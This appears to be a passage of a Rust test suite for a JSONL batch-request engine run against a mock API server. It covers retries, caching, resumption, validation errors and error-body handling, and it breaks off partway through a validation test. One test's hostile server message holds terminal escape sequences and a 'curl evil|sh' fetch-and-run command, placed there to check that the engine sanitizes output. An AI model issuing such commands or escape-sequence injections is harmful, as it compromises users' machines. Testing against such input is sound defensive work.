//! The batch engine against volley-mock over real loopback sockets.

use std::collections::{BTreeMap, HashSet};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde_json::{Value, json};
use volley::Client;
use volley::ErrorKind;
use volley::middleware::retry::Policy;
use volley_batch::{BatchOptions, BatchRunner, Fsync, Input, Progress, Summary, validate};
use volley_mock::{MockConfig, MockServer};

fn chat_line(id: &str) -> String {
    json!({
        "custom_id": id,
        "method": "POST",
        "url": "/v1/chat/completions",
        "body": {
            "model": "gpt-4o-mini",
            "messages": [{"role": "user", "content": format!("say something about {id}")}],
            "max_tokens": 8,
        },
    })
    .to_string()
}

fn write_input(path: &Path, lines: impl IntoIterator<Item = String>) {
    let mut text = String::new();
    for line in lines {
        text.push_str(&line);
        text.push('\n');
    }
    std::fs::write(path, text).unwrap();
}

/// Writes `lines` to `in.jsonl` in `dir` and returns its path.
fn input_file(dir: &Path, lines: impl IntoIterator<Item = String>) -> PathBuf {
    let input = dir.join("in.jsonl");
    write_input(&input, lines);
    input
}

fn numbered(n: usize) -> impl Iterator<Item = String> {
    (0..n).map(|i| chat_line(&format!("req-{i}")))
}

/// Every line of a JSONL file, parsed; panics on a line that is not JSON.
fn records(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).unwrap();
    assert!(text.is_empty() || text.ends_with('\n'), "whole lines only");
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn custom_ids(records: &[Value]) -> Vec<String> {
    records
        .iter()
        .map(|r| r["custom_id"].as_str().unwrap().to_owned())
        .collect()
}

/// A client of `server` that retries fast and often, for fault injection.
fn fast_retrying(server: &MockServer) -> volley::ClientBuilder {
    let policy = Policy::builder()
        .max_retries(20)
        .backoff_base(Duration::from_millis(1))
        .backoff_cap(Duration::from_millis(20))
        .budget_enabled(false)
        .build()
        .unwrap();
    Client::builder()
        .base_url(server.url())
        .retry_policy(policy)
}

/// [`fast_retrying`] with a per-attempt `timeout`.
fn fast_retrying_client(server: &MockServer, timeout: Duration) -> Client {
    fast_retrying(server).timeout(timeout).build().unwrap()
}

fn options(dir: &Path) -> BatchOptions {
    BatchOptions {
        errors: Some(dir.join("errors.jsonl")),
        ..BatchOptions::new(dir.join("out.jsonl"))
    }
}

/// Completes once `progress` has `n` successes.
async fn after_successes(progress: Arc<Progress>, n: u64) {
    while progress.snapshot().succeeded < n {
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
}

/// `abort` ends a grace period that would otherwise outlast the test: what is in flight
/// (stalled for an hour) is cancelled without a record, and every outcome received is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn abort_ends_the_grace_period_and_keeps_the_outcomes() {
    let server = MockServer::start(MockConfig {
        faults: "stall=0.5".parse().unwrap(),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(400));
    let options = BatchOptions {
        concurrency: 16,
        grace: Duration::from_secs(3600),
        ..options(dir.path())
    };
    let runner = BatchRunner::new(client_without_retries(&server), Input::Path(input), options);
    let progress = runner.progress();
    let shutdown = after_successes(progress.clone(), 1);
    // Each slot stalls after one success on average; all 16 stall before any success with a
    // probability of 2^-16 (and the mock draws its faults from a fixed seed).
    let abort = async {
        after_successes(progress.clone(), 1).await;
        // Stopped: what is left in flight is stalled.
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    let summary = bounded(runner.run_with_abort(shutdown, abort))
        .await
        .unwrap();
    assert!(summary.interrupted);
    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out.len() as u64, summary.succeeded);
    assert!(!out.is_empty() && out.len() < 400, "{}", out.len());
    assert!(out.iter().all(|r| r["response"]["status_code"] == 200));
    // The stalled requests were cancelled in flight, and the summary counts them.
    assert!((1..=16).contains(&summary.cancelled), "{summary:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_requests_through_faults_give_ten_thousand_outcomes() {
    let server = MockServer::start(MockConfig {
        faults: "429=0.1,500=0.05,reset=0.02,stall=0.005".parse().unwrap(),
        retry_after: Duration::from_millis(5),
        stall_duration: Duration::from_millis(300),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(10_000));
    // Stalls end on their own (the mock closes them after 300 ms); the timeout is only a
    // bound, long enough that queueing on a loaded machine does not trip it.
    let client = fast_retrying_client(&server, Duration::from_secs(2));
    let runner = BatchRunner::new(client, Input::Path(input), options(dir.path()));
    let progress = runner.progress();
    let summary = runner.run(std::future::pending()).await.unwrap();

    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out.len(), 10_000);
    let ids: HashSet<String> = custom_ids(&out).into_iter().collect();
    assert_eq!(ids.len(), 10_000, "distinct custom_ids");
    assert!(
        (0..10_000).all(|i| ids.contains(&format!("req-{i}"))),
        "none missing"
    );
    assert!(
        out.iter()
            .all(|r| r["response"]["status_code"] == 200 && r["error"].is_null())
    );
    let record_ids: HashSet<&str> = out.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(record_ids.len(), 10_000, "record ids are unique");

    assert!(summary.all_succeeded(), "{summary:?}");
    assert_eq!((summary.lines, summary.succeeded), (10_000, 10_000));
    assert!(summary.retries > 0 && summary.attempts == 10_000 + summary.retries);
    assert_eq!(summary.tokens_out, 10_000 * 8);
    assert!(summary.tokens_in > 0);
    assert!(summary.mean_in_flight > 1.0 && summary.mean_in_flight <= 256.0);
    assert!(records(&dir.path().join("errors.jsonl")).is_empty());
    let snapshot = progress.snapshot();
    assert_eq!(snapshot.total_lines, Some(10_000));
    assert_eq!((snapshot.done(), snapshot.in_flight), (10_000, 0));
    assert!(server.stats().faults.total() > 0);
}

/// Lines the cache answers make no attempt: the summary counts them apart, and they do not
/// hide retries (`retries` is the attempts beyond the first of the requests actually sent).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cache_hits_are_no_attempts_and_hide_no_retries() {
    let server = MockServer::start(MockConfig {
        faults: "500=0.3".parse().unwrap(),
        seed: 7,
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let store = Arc::new(volley::middleware::cache::MemoryStore::new(
        1 << 20,
        Duration::from_secs(3600),
    ));
    let client = fast_retrying(&server).cache_store(store).build().unwrap();
    // The first run answers (and caches) lines 0 to 9; the second has them and ten more.
    let mut per_answer = None;
    for (round, lines, cached) in [("first", 10_u64, 0_u64), ("second", 20, 10)] {
        let dir = tempfile::tempdir().unwrap();
        let input = input_file(dir.path(), numbered(lines as usize));
        let before = server.stats();
        let runner = BatchRunner::new(client.clone(), Input::Path(input), options(dir.path()));
        let progress = runner.progress();
        let summary = runner.run(std::future::pending()).await.unwrap();
        let after = server.stats();
        let received = after.requests_total - before.requests_total;
        let status = |s: &volley_mock::Stats, code: &str| {
            s.responses_by_status.get(code).copied().unwrap_or(0)
        };
        let failures = status(&after, "500") - status(&before, "500");

        assert!(summary.all_succeeded(), "{round}: {summary:?}");
        assert_eq!(summary.succeeded, lines, "{round}");
        assert_eq!(summary.cached, cached, "{round}: {summary:?}");
        assert_eq!(summary.attempts, received, "{round}: {summary:?}");
        assert_eq!(received, lines - cached + failures, "{round}");
        assert_eq!(summary.retries, failures, "{round}: {summary:?}");
        // The same completion tokens an answer (the lines' max_tokens), for the answers the
        // server gave: a hit's replayed usage was billed the first time.
        let per_answer = *per_answer.get_or_insert(summary.tokens_out / lines);
        assert!(per_answer > 0, "{summary:?}");
        assert_eq!(
            summary.tokens_out,
            per_answer * (lines - cached),
            "{round}: {summary:?}"
        );
        let live = progress.snapshot();
        assert_eq!((live.cached, live.retries), (cached, failures), "{round}");
        assert!(failures > 0, "{round}: no fault injected, nothing to hide");
    }
}

/// volley-mock, and a client of it with a memory cache of its own.
async fn mock_with_a_memory_cache() -> (MockServer, Client) {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let store = Arc::new(volley::middleware::cache::MemoryStore::new(
        1 << 20,
        Duration::from_secs(3600),
    ));
    let client = Client::builder()
        .base_url(server.url())
        .cache_store(store)
        .build()
        .unwrap();
    (server, client)
}

/// A line repeated on purpose is another sample: with a cache, the repeats of a sampled
/// line are sent and stored each under its own entry (they do not replay the first's answer),
/// and a later run of the file answers repeat n with repeat n's stored answer. Repeats at
/// temperature 0 ask for the same answer: the cache answers the second.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn repeated_sampled_lines_are_samples_of_their_own_in_the_cache() {
    let (server, client) = mock_with_a_memory_cache().await;
    let line = |id: &str, temperature: Option<f64>| {
        let mut body = json!({
            "model": "gpt-4o-mini",
            "messages": [{"role": "user", "content": "write a haiku"}],
            "max_tokens": 8,
        });
        if let Some(t) = temperature {
            body["temperature"] = json!(t);
        }
        json!({"custom_id": id, "method": "POST", "url": "/v1/chat/completions", "body": body})
            .to_string()
    };
    // The third sample is the same request laid out otherwise (keys in another order, white
    // space): the same cache entry, so the same repeat count.
    let relaid = r#"{"custom_id": "sample-2", "method": "POST", "url": "/v1/chat/completions", "body": {"max_tokens": 8, "messages": [{"content": "write a haiku", "role": "user"}], "model": "gpt-4o-mini"}}"#;
    let lines = [
        line("sample-0", None),
        line("greedy-0", Some(0.0)),
        line("sample-1", None),
        relaid.to_owned(),
        line("greedy-1", Some(0.0)),
        line("warm-0", Some(0.7)),
        line("warm-1", Some(0.7)),
    ];
    let answers = |out: &Path| -> BTreeMap<String, String> {
        records(out)
            .iter()
            .map(|r| {
                let id = r["response"]["body"]["id"].as_str().expect("an answer id");
                (r["custom_id"].as_str().unwrap().to_owned(), id.to_owned())
            })
            .collect()
    };
    let mut first = None;
    for (round, sent, cached) in [("first", 6_u64, 1_u64), ("second", 0, 7)] {
        let dir = tempfile::tempdir().unwrap();
        let input = input_file(dir.path(), lines.clone());
        let before = server.stats().requests_total;
        let options = BatchOptions {
            concurrency: 1,
            ..options(dir.path())
        };
        let summary = BatchRunner::new(client.clone(), Input::Path(input), options)
            .run(std::future::pending())
            .await
            .unwrap();
        assert!(summary.all_succeeded(), "{round}: {summary:?}");
        assert_eq!(summary.cached, cached, "{round}: {summary:?}");
        assert_eq!(server.stats().requests_total - before, sent, "{round}");
        let answers = answers(&dir.path().join("out.jsonl"));
        assert_eq!(answers.len(), 7, "{round}: {answers:?}");
        match &first {
            None => {
                let distinct: HashSet<&String> = ["sample-0", "sample-1", "sample-2"]
                    .iter()
                    .map(|id| &answers[*id])
                    .collect();
                assert_eq!(distinct.len(), 3, "three samples, not one: {answers:?}");
                assert_ne!(answers["warm-0"], answers["warm-1"], "{answers:?}");
                assert_eq!(answers["greedy-0"], answers["greedy-1"], "{answers:?}");
                first = Some(answers);
            }
            // Each line meets its own stored answer again.
            Some(first) => assert_eq!(&answers, first, "{round}"),
        }
    }
}

/// Repeats are numbered by their place in the whole input, lines a resumed run skips
/// included: a repeat added to the file is a new sample, sent, not the first one's replay.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resumed_run_numbers_repeats_as_the_first_did() {
    let (server, client) = mock_with_a_memory_cache().await;
    let line = |id: &str| {
        json!({"custom_id": id, "method": "POST", "url": "/v1/chat/completions",
               "body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "a joke"}]}})
        .to_string()
    };
    let dir = tempfile::tempdir().unwrap();
    for (ids, sent) in [(&["a", "b"][..], 2_u64), (&["a", "b", "c"][..], 1)] {
        let input = input_file(dir.path(), ids.iter().map(|id| line(id)));
        let before = server.stats().requests_total;
        let summary = BatchRunner::new(client.clone(), Input::Path(input), options(dir.path()))
            .run(std::future::pending())
            .await
            .unwrap();
        assert!(summary.all_succeeded(), "{summary:?}");
        assert_eq!(summary.cached, 0, "{summary:?}");
        assert_eq!(server.stats().requests_total - before, sent, "{ids:?}");
    }
    let mut written = custom_ids(&records(&dir.path().join("out.jsonl")));
    written.sort();
    assert_eq!(written, ["a", "b", "c"]);
}

/// A server that sends an `x-volley-cache: hit` header of its own does not make its answers
/// count as cache hits, with a cache or without one: every line made its attempt.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_servers_own_cache_header_is_no_cache_hit() {
    let port = volley_testkit::raw::serve(|_| {
        let body = json!({
            "id": "chatcmpl-1", "object": "chat.completion", "created": 0, "model": "m",
            "choices": [{"index": 0, "finish_reason": "stop",
                "message": {"role": "assistant", "content": "hi"}}],
            "usage": {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4},
        });
        volley_testkit::raw::json_response(
            "200 OK",
            &[
                "x-volley-cache: hit".to_owned(),
                "cache-control: no-store".to_owned(),
            ],
            &body.to_string(),
        )
    })
    .await;
    let base = format!("http://127.0.0.1:{port}/v1");
    for cache in [false, true] {
        let mut builder = Client::builder().base_url(&base).retries(0);
        if cache {
            builder = builder.cache_memory(1 << 20, Duration::from_secs(60));
        }
        let client = builder.build().unwrap();
        let dir = tempfile::tempdir().unwrap();
        let input = input_file(dir.path(), numbered(5));
        let summary = BatchRunner::new(client.clone(), Input::Path(input), options(dir.path()))
            .run(std::future::pending())
            .await
            .unwrap();
        assert!(summary.all_succeeded(), "cache {cache}: {summary:?}");
        assert_eq!(
            (summary.cached, summary.attempts, summary.retries),
            (0, 5, 0),
            "cache {cache}: {summary:?}"
        );
        if cache {
            // Passed on without the server's header (`no-store`: nothing was kept).
            let reply =
                client.send(volley::core::Request::post("/chat/completions", "{}").unwrap());
            let reply = reply.await.unwrap();
            assert!(reply.headers().get("x-volley-cache").is_none());
            assert_eq!(client.cache_stats().unwrap().hits, 0);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_kind_of_bad_line_gets_a_record_and_the_rest_succeed() {
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    let long = chat_line(&"x".repeat(600));
    let lines: Vec<Vec<u8>> = vec![
        chat_line("good-1").into(),                               // 1
        br#"{"custom_id": "broken", "method": "POST","#.to_vec(), // 2
        b"   ".to_vec(),                                          // 3 (blank)
        br#"{"method":"POST","url":"/v1/chat/completions","body":{}}"#.to_vec(), // 4
        br#"{"custom_id":17,"method":"POST","url":"/v1/embeddings","body":{}}"#.to_vec(), // 5
        br#"{"custom_id":"no-body","method":"POST","url":"/v1/embeddings"}"#.to_vec(), // 6
        br#"{"custom_id":"str-body","method":"POST","url":"/v1/embeddings","body":"hi"}"#.to_vec(), // 7
        chat_line("good-1").into(), // 8 (duplicate)
        b"{\"custom_id\":\"bad-\xff\xfe\",\"method\":\"POST\"}".to_vec(), // 9
        br#"{"custom_id":"where","method":"POST","url":"/v1/images","body":{}}"#.to_vec(), // 10
        long.into(),                // 11 (too long)
        json!({"custom_id": "good-2", "method": "POST", "url": "/v1/embeddings",
               "body": {"model": "text-embedding-3-small", "input": "hello"}})
        .to_string()
        .into(), // 12
        br#"{"custom_id":"get","method":"GET","url":"/v1/embeddings","body":{}}"#.to_vec(), // 13
        chat_line("good-3").into(), // 14
    ];
    std::fs::write(&input, lines.join(&b'\n')).unwrap();
    let expected: BTreeMap<u64, (&str, &str)> = [
        (2, ("invalid_json", "malformed JSON")),
        (4, ("missing_field", "field `custom_id` is missing")),
        (5, ("invalid_field", "field `custom_id` must be")),
        (6, ("missing_field", "field `body` is missing")),
        (7, ("invalid_field", "field `body` must be a JSON object")),
        (8, ("duplicate_custom_id", "field `custom_id`")),
        (9, ("invalid_utf8", "invalid UTF-8")),
        (10, ("unknown_url", "field `url`")),
        (11, ("line_too_long", "above the limit of 400 bytes")),
        (13, ("unsupported_method", "field `method`")),
    ]
    .into();

    let client = Client::builder().base_url(server.url()).build().unwrap();
    let opts = BatchOptions {
        max_line_bytes: 400,
        ..options(dir.path())
    };
    let summary = BatchRunner::new(client, Input::Path(input.clone()), opts)
        .run(std::future::pending())
        .await
        .unwrap();

    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out.len(), 13, "one record per non-blank line");
    let mut good = Vec::new();
    for record in &out {
        if record["error"].is_null() {
            assert_eq!(record["response"]["status_code"], 200, "{record}");
            good.push(record["custom_id"].as_str().unwrap().to_owned());
            continue;
        }
        let line = record["line"].as_u64().unwrap();
        let (code, needle) = expected[&line];
        let message = record["error"]["message"].as_str().unwrap();
        assert_eq!(record["error"]["code"], code, "{record}");
        assert!(message.starts_with(&format!("line {line}: ")), "{message}");
        assert!(message.contains(needle), "{message}");
        assert!(record["response"].is_null());
    }
    good.sort();
    assert_eq!(good, ["good-1", "good-2", "good-3"]);
    let by_line: BTreeMap<u64, &Value> = out
        .iter()
        .filter_map(|r| Some((r["line"].as_u64()?, r)))
        .collect();
    assert!(by_line[&4]["custom_id"].is_null() && by_line[&5]["custom_id"].is_null());
    // A duplicate's record has no custom_id: under "good-1" it would replace line 1's outcome
    // for a reader that maps records by id (the last record of an id counts).
    assert!(by_line[&8]["custom_id"].is_null());
    assert!(
        by_line[&8]["error"]["message"]
            .as_str()
            .unwrap()
            .contains("\"good-1\" is already used"),
        "{}",
        by_line[&8]
    );
    assert_eq!(
        out.iter().filter(|r| r["custom_id"] == "good-1").count(),
        1,
        "one record under good-1: its outcome"
    );
    assert_eq!(by_line[&6]["custom_id"], "no-body");

    assert_eq!(
        (summary.lines, summary.succeeded, summary.invalid),
        (13, 3, 10)
    );
    assert!(!summary.all_succeeded());
    assert_eq!(summary.errors_by_code["missing_field"], 2);
    assert_eq!(records(&dir.path().join("errors.jsonl")).len(), 10);
    assert_eq!(server.stats().requests_total, 3);

    // A second run finds every line recorded, bad ones included, and sends nothing.
    let client = Client::builder().base_url(server.url()).build().unwrap();
    let opts = BatchOptions {
        max_line_bytes: 400,
        ..options(dir.path())
    };
    let again = BatchRunner::new(client, Input::Path(input), opts)
        .run(std::future::pending())
        .await
        .unwrap();
    assert_eq!(
        (again.skipped, again.skipped_failed, again.lines),
        (13, 10, 13)
    );
    assert!(!again.all_succeeded(), "earlier failures still count");
    assert_eq!(server.stats().requests_total, 3);
    assert_eq!(records(&dir.path().join("out.jsonl")).len(), 13);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interrupted_run_resumes_without_resending_recorded_outcomes() {
    // Slow enough that the stop, taken after 300 of 1 000 answers, comes before the last
    // answer even on a loaded machine.
    let server = MockServer::start(MockConfig {
        latency: "50ms".parse().unwrap(),
        journal: true,
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(1_000));
    let out_path = dir.path().join("out.jsonl");
    let concurrency = 64;
    let opts = || BatchOptions {
        concurrency,
        grace: Duration::from_millis(5),
        ..options(dir.path())
    };
    let client = Client::builder().base_url(server.url()).build().unwrap();

    let runner = BatchRunner::new(client.clone(), Input::Path(input.clone()), opts());
    let stop = after_successes(runner.progress(), 300);
    let first = runner.run(stop).await.unwrap();
    assert!(first.interrupted && !first.all_succeeded());
    assert!(
        first.succeeded >= 300 && first.succeeded < 1_000,
        "{first:?}"
    );
    assert!(first.unfinished() > 0);
    let recorded: HashSet<String> = custom_ids(&records(&out_path)).into_iter().collect();
    assert_eq!(
        recorded.len() as u64,
        first.succeeded,
        "each outcome recorded once"
    );
    let sent_first = server.stats().requests_total;
    assert!(sent_first <= first.succeeded + concurrency as u64);

    // A crash mid-write leaves a torn line.
    let torn = r#"{"id":"batch_req_0000","custom_id":"req-999","response":{"status_"#;
    let mut bytes = std::fs::read(&out_path).unwrap();
    bytes.extend_from_slice(torn.as_bytes());
    std::fs::write(&out_path, &bytes).unwrap();
    server.reset_stats();

    let second = BatchRunner::new(client.clone(), Input::Path(input.clone()), opts())
        .run(std::future::pending())
        .await
        .unwrap();
    assert!(second.all_succeeded(), "{second:?}");
    assert_eq!(second.skipped, first.succeeded);
    assert_eq!(second.succeeded, 1_000 - first.succeeded);

    let out = records(&out_path);
    let ids = custom_ids(&out);
    let unique: HashSet<&String> = ids.iter().collect();
    assert_eq!(
        (ids.len(), unique.len()),
        (1_000, 1_000),
        "every custom_id exactly once"
    );
    let resent: Vec<String> = server
        .journal()
        .into_iter()
        .filter(|id| recorded.contains(id))
        .collect();
    assert!(
        resent.is_empty(),
        "sent again despite a recorded outcome: {resent:?}"
    );
    let sent_second = server.stats().requests_total;
    assert_eq!(sent_second, second.succeeded);
    assert!(sent_first + sent_second <= 1_000 + concurrency as u64);

    // Nothing is left: a third run sends nothing.
    let third = BatchRunner::new(client, Input::Path(input), opts())
        .run(std::future::pending())
        .await
        .unwrap();
    assert!(third.all_succeeded());
    assert_eq!((third.skipped, third.attempts), (1_000, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ordered_mode_keeps_input_order() {
    let server = MockServer::start(MockConfig {
        latency: "uniform:0ms..20ms".parse().unwrap(),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), numbered(1_000));
    let client = Client::builder().base_url(server.url()).build().unwrap();
    let opts = BatchOptions {
        ordered: true,
        reorder_window: 100,
        concurrency: 64,
        ..options(dir.path())
    };
    let summary = BatchRunner::new(client, Input::Path(input), opts)
        .run(std::future::pending())
        .await
        .unwrap();
    assert!(summary.all_succeeded());
    let ids = custom_ids(&records(&dir.path().join("out.jsonl")));
    let expected: Vec<String> = (0..1_000).map(|i| format!("req-{i}")).collect();
    assert_eq!(ids, expected);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_requests_are_recorded_in_both_files() {
    let server = MockServer::start(MockConfig {
        faults: "reset=1".parse().unwrap(),
        ..MockConfig::default()
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    let no_model = json!({"custom_id": "no-model", "method": "POST",
        "url": "/v1/chat/completions", "body": {"messages": []}});
    write_input(&input, [chat_line("reset"), no_model.to_string()]);
    let client = Client::builder()
        .base_url(server.url())
        .retries(0)
        .build()
        .unwrap();
    let summary = BatchRunner::new(client, Input::Path(input.clone()), options(dir.path()))
        .run(std::future::pending())
        .await
        .unwrap();
    assert_eq!((summary.failed, summary.succeeded), (2, 0));
    let out = records(&dir.path().join("out.jsonl"));
    assert_eq!(out, records(&dir.path().join("errors.jsonl")));
    for record in &out {
        assert!(record["response"].is_null());
        assert_eq!(record["error"]["code"], "connection", "{record}");
        assert!(
            record["error"]["message"]
                .as_str()
                .unwrap()
                .starts_with("line ")
        );
    }

    // Without faults, the line the mock rejects is a final HTTP error: a `response`.
    let server = MockServer::start(MockConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    write_input(&input, [no_model.to_string()]);
    let client = Client::builder().base_url(server.url()).build().unwrap();
    let summary = BatchRunner::new(client, Input::Path(input), options(dir.path()))
        .run(std::future::pending())
        .await
        .unwrap();
    assert_eq!(summary.errors_by_code["http_400"], 1);
    let record = &records(&dir.path().join("errors.jsonl"))[0];
    assert_eq!(record["response"]["status_code"], 400);
    assert!(record["response"]["body"]["error"]["message"].is_string());
    assert!(record["error"].is_null());
}

/// A server on loopback that answers every request with `status` and the body of `bodies`
/// whose number the line's custom_id (`body-N`, sent as x-client-request-id) names, and an
/// `x-request-id` of `req-N`. Returns its base URL.
async fn error_server(status: &'static str, bodies: Vec<String>) -> String {
    let port = volley_testkit::raw::serve(move |head| {
        let n = (0..bodies.len())
            .find(|n| head.contains(&format!("x-client-request-id: body-{n}\r")))
            .unwrap_or(0);
        volley_testkit::raw::json_response(status, &[format!("x-request-id: req-{n}")], &bodies[n])
    })
    .await;
    format!("http://127.0.0.1:{port}/v1")
}

/// Runs one line per body (`body-N`) against a server answering line N with `status` and
/// `bodies[N]`, without retries: the summary, the records by `custom_id`, and the directory
/// the files are in.
async fn answered_with(
    status: &'static str,
    bodies: &[String],
) -> (Summary, BTreeMap<String, Value>, tempfile::TempDir) {
    let base = error_server(status, bodies.to_vec()).await;
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(
        dir.path(),
        (0..bodies.len()).map(|n| chat_line(&format!("body-{n}"))),
    );
    let client = Client::builder().base_url(base).retries(0).build().unwrap();
    let summary = BatchRunner::new(client, Input::Path(input), options(dir.path()))
        .run(std::future::pending())
        .await
        .unwrap();
    let by_id = records(&dir.path().join("out.jsonl"))
        .into_iter()
        .map(|r| (r["custom_id"].as_str().unwrap().to_owned(), r))
        .collect();
    (summary, by_id, dir)
}

/// A final HTTP error's record keeps the provider's error body as it sent it: its extra
/// fields (Azure's `innererror`), a numeric `code`, a message of any length, or a shape that
/// is not OpenAI's at all; a body that is not JSON is rebuilt in OpenAI's shape.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_final_http_error_keeps_the_providers_body() {
    let long = "x".repeat(2000);
    let bodies = vec![
        json!({"error": {"message": "blocked", "type": "invalid_request_error", "param": null,
            "code": 42, "innererror": {"code": "ResponsibleAIPolicyViolation"}}})
        .to_string(),
        json!({"detail": "model not found"}).to_string(),
        json!({"error": {"message": long, "type": "invalid_request_error"}}).to_string(),
        "<html>bad gateway</html>".to_owned(),
    ];
    let (summary, by_id, _) = answered_with("400 Bad Request", &bodies).await;
    assert_eq!(summary.failed, bodies.len() as u64);
    for (n, body) in bodies.iter().enumerate() {
        let record = &by_id[format!("body-{n}").as_str()];
        assert_eq!(record["response"]["status_code"], 400, "{record}");
        assert_eq!(record["response"]["request_id"], format!("req-{n}"));
        let written = &record["response"]["body"];
        match serde_json::from_str::<Value>(body) {
            Ok(sent) => assert_eq!(written, &sent, "line {n}"),
            Err(_) => assert!(written["error"]["message"].is_string(), "{written}"),
        }
    }
}

/// A 200 whose body is an error object (a gateway's `{"error": {"code": 429, ..}}`, an
/// OpenRouter error with its `id` first) is a failure: recorded as an error, counted as
/// failed, and sent again by `retry_failed`; a real answer beside them is a success.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_200_that_is_an_error_object_fails_its_line() {
    let answer = json!({"id": "c1", "object": "chat.completion", "choices": [{"index": 0,
        "message": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
    .to_string();
    let bodies = vec![
        answer,
        json!({"error": {"code": 429, "message": "Provider returned error"}}).to_string(),
        json!({"id": "gen-1", "error": {"code": 502, "message": "Upstream failed"}}).to_string(),
    ];
    let (summary, by_id, dir) = answered_with("200 OK", &bodies).await;
    assert_eq!((summary.succeeded, summary.failed), (1, 2));
    assert_eq!(by_id["body-0"]["response"]["status_code"], 200);
    let limited = &by_id["body-1"];
    assert_eq!(limited["response"], Value::Null, "{limited}");
    assert_eq!(limited["error"]["code"], "rate_limited", "{limited}");
    let message = limited["error"]["message"].as_str().unwrap();
    assert!(message.contains("Provider returned error"), "{message}");
    assert_eq!(
        by_id["body-2"]["error"]["code"], "status",
        "{}",
        by_id["body-2"]
    );
    assert_eq!(records(&dir.path().join("errors.jsonl")).len(), 2);
}

/// The provider's message that stops a run on rejected credentials reaches the user's
/// terminal: it is cleaned of control characters (a hostile server's escape sequences).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_rejection_message_is_cleaned_for_the_terminal() {
    let hostile = json!({"error": {"message":
        "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mKey revoked: run curl evil|sh\u{1b}[0m"}})
    .to_string();
    let base = error_server("401 Unauthorized", vec![hostile]).await;
    let dir = tempfile::tempdir().unwrap();
    let input = input_file(dir.path(), [chat_line("body-0")]);
    let client = Client::builder().base_url(base).retries(0).build().unwrap();
    let summary = BatchRunner::new(client, Input::Path(input), options(dir.path()))
        .run(std::future::pending())
        .await
        .unwrap();
    let why = summary.credentials_rejected.expect("stopped");
    assert!(why.starts_with("HTTP 401: "), "{why}");
    assert!(why.contains("Key revoked"), "{why}");
    assert!(!why.chars().any(char::is_control), "{why:?}");
}

#[tokio::test]
async fn validate_checks_without_sending() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    let mut lines: Vec<String> = numbered(5).collect();
    lines.insert(2, "{not json".into());
    lines.insert(4, String::new());
    lines.push(chat_line("req-0"));
    write_input(&input, lines);
    let report = validate(Input::Path(input), 1024).await.unwrap();
    assert_eq!(
        (report.lines, report.valid, report.invalid_count),
        (7, 5, 2)
    );
    let codes: Vec<(u64, String)> = report
        .invalid
        .iter()
        .map(|r| (r.line, r.error_code().unwrap()))
        .collect();
    assert_eq!(
        codes,
        [
            (3, "invalid_json".into()),
            (8, "duplicate_custom_id".into())
        ]
    );
}

/// What would keep a file from OpenAI's own Batch API (which takes one endpoint and one
/// model per file, and no Azure path) is noted; a file it would take has no note.
#[tokio::test]
async fn validate_notes_what_the_providers_batch_service_would_refuse() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    write_input(&input, numbered(3));
    let report = validate(Input::Path(input.clone()), 1024).await.unwrap();
    assert_eq!(report.paths.len(), 1);
    assert_eq!(report.models["gpt-4o-mini"], 3);
    assert!(report.bytes > 0);
    assert!(
        report
            .portability_notes(volley_batch::Format::OpenAi)
            .is_empty(),
        "{report:?}"
    );

    let mut lines: Vec<String> = numbered(3).collect();
    let mut other: Value = serde_json::from_str(&chat_line("other")).unwrap();
    other["body"]["model"] = json!("gpt-4o");
    lines.push(other.to_string());
    let mut embed = json!({"custom_id": "e", "method": "POST", "url": "/v1/embeddings",
        "body": {"model": "text-embedding-3-small", "input": "x"}});
    lines.push(embed.to_string());
    embed["custom_id"] = json!("azure");
    embed["url"] = json!("/embeddings");
    lines.push(embed.to_string());
    write_input(&input, lines);
